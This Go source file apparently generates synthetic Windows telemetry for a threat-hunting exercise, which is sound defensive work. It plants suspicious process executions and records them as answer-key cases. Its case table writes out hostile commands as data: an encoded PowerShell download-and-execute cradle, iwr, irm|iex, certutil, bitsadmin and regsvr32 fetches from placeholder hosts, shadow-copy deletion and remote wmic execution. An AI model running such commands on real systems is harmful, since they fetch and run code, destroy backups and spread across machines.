package sample

import (
	"encoding/base64"
	"encoding/binary"
	"math/rand/v2"
	"strings"
	"unicode/utf16"
)

// processCase is a line of the table below.
type processCase struct {
	kind, strength string
	path, parent   string // may hold {user}
	who            who
	on             roles
	hour           float64
	times          int
	command, what  string
}

// processCases plants executions that no name betrays. The sites do not exist.
func (g *generator) processCases() {
	rng := rand.New(rand.NewPCG(g.cfg.Seed, caseStream+1))
	for _, c := range processCaseList(rng) {
		g.plantProcess(rng, c)
	}
}

const psh = sys32 + `WindowsPowerShell\v1.0\powershell.exe`

func processCaseList(rng *rand.Rand) []processCase {
	office := pf + `Microsoft Office\root\Office16\`
	script := encodedScript(rng, `$c=New-Object Net.WebClient;$c.Headers.Add('User-Agent','Mozilla/5.0');IEX $c.DownloadString('http://cdn.parcel-news.example/a')`)
	return []processCase{
		{"encoded-command", Blatant, psh, sys32 + "cmd.exe", usr, wks, 10.3, 2, `powershell.exe -NoP -NonI -W Hidden -Exec Bypass -Enc ` + script, "PowerShell with an encoded download, its window hidden"},
		{"office-shell", Blatant, sys32 + "cmd.exe", office + "WINWORD.EXE", usr, wks, 9.4, 1, `cmd.exe /c start /min powershell -w hidden -c "iwr http://files.quickshare.example/u.ps1 -OutFile $env:TEMP\u.ps1; & $env:TEMP\u.ps1"`, "Word starts a command line that fetches a script"},
		{"certutil-download", Blatant, sys32 + "certutil.exe", sys32 + "cmd.exe", usr, wks, 9.5, 1, `certutil.exe -urlcache -split -f http://files.quickshare.example/upd.bin C:\Users\Public\upd.dat`, "certutil fetches a file"},
		{"system-in-user-folder", Plain, `C:\Users\{user}\AppData\Local\Temp\tollgate.exe`, sys32 + "services.exe", sys, wks, 2.6, 1, `C:\Users\{user}\AppData\Local\Temp\tollgate.exe -k netgrp`, "SYSTEM runs a program out of a user's temporary folder"},
		{"bitsadmin-download", Plain, sys32 + "bitsadmin.exe", sys32 + "cmd.exe", usr, wks, 15.2, 1, `bitsadmin /transfer qjob /download /priority high http://static.weather.invalid/p.zip C:\ProgramData\p.zip`, "bitsadmin fetches a file"},
		{"regsvr32-script", Plain, sys32 + "regsvr32.exe", sys32 + "cmd.exe", usr, wks, 16.1, 1, `regsvr32.exe /s /n /u /i:http://updates.toolbar.invalid/r.sct scrobj.dll`, "regsvr32 runs a script from the web"},
		{"shadow-copies", Plain, sys32 + "vssadmin.exe", sys32 + "cmd.exe", sys, srv, 3.2, 2, `vssadmin.exe delete shadows /all /quiet`, "the copies that a restore needs are deleted"},
		{"wmic-remote", Plain, sys32 + `wbem\wmic.exe`, sys32 + "cmd.exe", usr, wks, 11.7, 1, `wmic /node:SRV-FILE-01 process call create "cmd.exe /c whoami > C:\Windows\Temp\w.txt"`, "a process is created on another machine"},
		{"rundll32-folder", Subtle, sys32 + "rundll32.exe", sys32 + "svchost.exe", sys, wks, 4.1, 1, `rundll32.exe C:\ProgramData\cache\ledger.dat,Start`, "rundll32 runs what is no library by its name"},
		{"short-download", Subtle, pf + `PowerShell\7\pwsh.exe`, `C:\Windows\explorer.exe`, usr, wks, 13.1, 1, `pwsh -c "irm files.quickshare.example/s|iex"`, "PowerShell runs what it fetches, in few words"},
		{"discovery", Subtle, sys32 + "net.exe", sys32 + "cmd.exe", usr, wks, 13.3, 1, `net group "Domain Admins" /domain`, "somebody asks who the administrators are"},
		{"excel-script", Subtle, sys32 + "wscript.exe", office + "EXCEL.EXE", usr, wks, 10.9, 1, `wscript.exe "C:\Users\{user}\AppData\Roaming\Microsoft\Excel\XLSTART\refresh.vbs"`, "Excel starts a script of its own folder"},
	}
}

// encodedScript is a script as the parameter EncodedCommand takes it: UTF-16 in base64.
func encodedScript(rng *rand.Rand, script string) string {
	script += strings.Repeat(" ", rng.IntN(6))
	var b []byte
	for _, u := range utf16.Encode([]rune(script)) {
		b = binary.LittleEndian.AppendUint16(b, u)
	}
	return base64.StdEncoding.EncodeToString(b)
}

func (g *generator) plantProcess(rng *rand.Rand, c processCase) {
	s := scene{rng: rng}
	for s.on == nil || s.on.quiet {
		if s.on = g.estate.machine(rng, c.on); allQuiet(g.estate, c.on) {
			break
		}
	}
	g.estate.cast(&s, c.who)
	path := strings.ReplaceAll(c.path, "{user}", s.person.folder)
	s.path = []byte(quote(path))
	s.base = path[strings.LastIndexByte(path, '\\')+1:]
	s.parent = []byte(quote(c.parent))
	if !s.on.quiet {
		s.command = []byte(quote(strings.ReplaceAll(c.command, "{user}", s.person.folder)))
	}
	for range c.times {
		s.at = clock(c.hour, 0) + rng.Int64N(clock(0, 20))
		if g.happen(g.created, s) {
			g.planted[strings.ToLower(s.base)]++
		}
	}
	g.cases = append(g.cases, Case{Hunt: "process", Kind: c.kind, Entity: strings.ToLower(path), Strength: c.strength, Events: c.times,
		Hosts: hostsOf(s.on), What: c.what})
}

// allQuiet reports whether no machine of a kind audits command lines.
func allQuiet(e *estate, on roles) bool {
	for _, m := range e.machines {
		if m.role&on != 0 && !m.quiet {
			return false
		}
	}
	return true
}
